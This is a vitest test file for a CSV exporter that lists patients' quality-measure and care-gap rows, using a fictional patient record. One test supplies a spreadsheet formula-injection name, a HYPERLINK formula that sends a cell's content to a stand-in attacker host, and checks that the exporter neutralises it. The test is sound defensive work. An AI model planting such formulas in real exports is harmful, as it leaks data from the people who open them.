/**
 * The population table as CSV: Ben (not met for CMS2, gap open) gives a measure row and a gap row,
 * each starting with who Ben is (reference, name, birth date, MRN, attributed clinician), and a
 * closing action with commas and quotes is quoted per RFC 4180.
 */
import { describe, expect, it } from 'vitest';
import { csvField, csvHeader, csvRows } from '../../../src/engine/report/population-csv.ts';
import type { PatientIdentity } from '../../../src/engine/report/patient-identity.ts';
import type { PatientEvaluation } from '../../../src/engine/types.ts';
import { parseCsv } from './parse-csv.ts';

const BEN: PatientEvaluation = {
  patient: 'Patient/ben',
  period: { start: '2026-01-01', end: '2026-12-31' },
  asOf: '2026-12-31',
  flags: [],
  actions: [],
  issues: [],
  measures: [
    {
      id: 'cms2',
      measureUrl: 'https://example.org/Measure/cms2',
      version: '1',
      title: 'Depression screening',
      status: 'not-met',
      evidence: [],
      populations: {
        'initial-population': 1,
        denominator: 1,
        'denominator-exclusion': 0,
        'denominator-exception': 0,
        numerator: 0,
      },
      closes: { what: 'Screen for depression, "PHQ-9" preferred', due: '2026-12-31' },
    },
  ],
  gaps: [
    {
      id: 'fuh-7',
      title: 'Follow-up after MH stay',
      status: 'open',
      due: '2026-06-08',
      closes: 'Follow-up visit\nwithin 7 days',
      why: 'discharged',
      evidence: [],
    },
  ],
};
const BEN_ID: PatientIdentity = {
  patient: 'Patient/ben',
  name: 'Ben Okafor',
  birthDate: '1976-02-29',
  mrn: 'MRN-0042',
  clinician: { reference: 'Practitioner/np-chen', display: 'NP Lily Chen', source: 'general-practitioner' },
};
const WHO = 'Patient/ben,Ben Okafor,1976-02-29,MRN-0042,NP Lily Chen';

describe('population CSV', () => {
  it('has a header naming the patient and who they are, then id, title, kind, status, the five counts, due and closes', () => {
    expect(csvHeader()).toBe(
      'patient,name,birth-date,mrn,clinician,id,title,kind,status,initial-population,denominator,denominator-exclusion,denominator-exception,numerator,due,closes',
    );
  });

  it("writes Ben's CMS2 row with his identity, the counts and the quoted closing action", () => {
    expect(csvRows(BEN, BEN_ID)[0]).toBe(
      `${WHO},cms2,Depression screening,measure,not-met,1,1,0,0,0,2026-12-31,"Screen for depression, ""PHQ-9"" preferred"`,
    );
  });

  it("writes Ben's open FUH gap with empty counts and a quoted line break", () => {
    expect(csvRows(BEN, BEN_ID)[1]).toBe(
      `${WHO},fuh-7,Follow-up after MH stay,gap,open,,,,,,2026-06-08,"Follow-up visit\nwithin 7 days"`,
    );
  });

  it('tells apart two patients named Ben Okafor by birth date and MRN', () => {
    const twin = csvRows(
      { ...BEN, patient: 'Patient/ben-2' },
      { ...BEN_ID, patient: 'Patient/ben-2', birthDate: '1990-07-01', mrn: 'MRN-0777' },
    )[0]!;
    const [a, b] = [parseCsv(csvRows(BEN, BEN_ID)[0]!)[0]!, parseCsv(twin)[0]!];
    expect(a[1]).toBe(b[1]);
    expect([a[2], a[3]]).not.toEqual([b[2], b[3]]);
  });

  it('says "Unattributed" for a patient without a clinician and leaves missing fields empty', () => {
    expect(csvRows(BEN, { patient: 'Patient/ben', name: 'Ben Okafor' })[0]).toMatch(
      /^Patient\/ben,Ben Okafor,,,Unattributed,cms2,/,
    );
  });

  it('gives every row as many fields as the header', () => {
    const fields = parseCsv(csvHeader())[0]!.length;
    for (const row of csvRows(BEN, BEN_ID)) {
      expect(parseCsv(row)[0]).toHaveLength(fields);
    }
    expect(
      csvRows({ ...BEN, measures: [{ ...BEN.measures[0]!, closes: undefined, status: 'met' }], gaps: [] }, BEN_ID),
    ).toEqual([`${WHO},cms2,Depression screening,measure,met,1,1,0,0,0,,`]);
  });

  it('neutralises a hostile name and MRN so a spreadsheet shows them as text', () => {
    const hostile: PatientIdentity = {
      ...BEN_ID,
      name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      mrn: '+1-555',
      clinician: { display: '@SUM(1+1)', source: 'general-practitioner' },
    };
    const [row] = parseCsv(csvRows(BEN, hostile)[0]!);
    expect(row!.slice(1, 5)).toEqual([
      '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '1976-02-29',
      "'+1-555",
      "'@SUM(1+1)",
    ]);
  });

  it('leaves plain fields unquoted and quotes a carriage return', () => {
    expect([csvField('a'), csvField(3), csvField(undefined), csvField('a\rb')]).toEqual(['a', '3', '', '"a\rb"']);
  });

  it('writes nothing for a patient with no measure and no gap', () => {
    expect(csvRows({ ...BEN, measures: [], gaps: [] }, BEN_ID)).toEqual([]);
  });
});
